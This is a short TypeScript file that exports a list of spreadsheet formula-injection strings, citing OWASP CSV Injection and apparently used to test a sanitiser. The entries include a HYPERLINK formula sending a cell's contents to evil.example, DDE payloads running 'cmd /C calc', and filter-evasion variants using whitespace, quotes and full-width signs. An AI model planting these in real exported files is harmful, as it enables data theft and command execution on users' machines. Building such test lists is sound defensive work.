/** Texts a spreadsheet would run (OWASP: CSV Injection), some behind quotes, separators and line ends. */
export const formulas = [
  "=1+1",
  '=HYPERLINK("http://evil.example?"&A1,"pay")',
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1"',
  '",=1+1',
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=1+1;=2+2",
] as const;
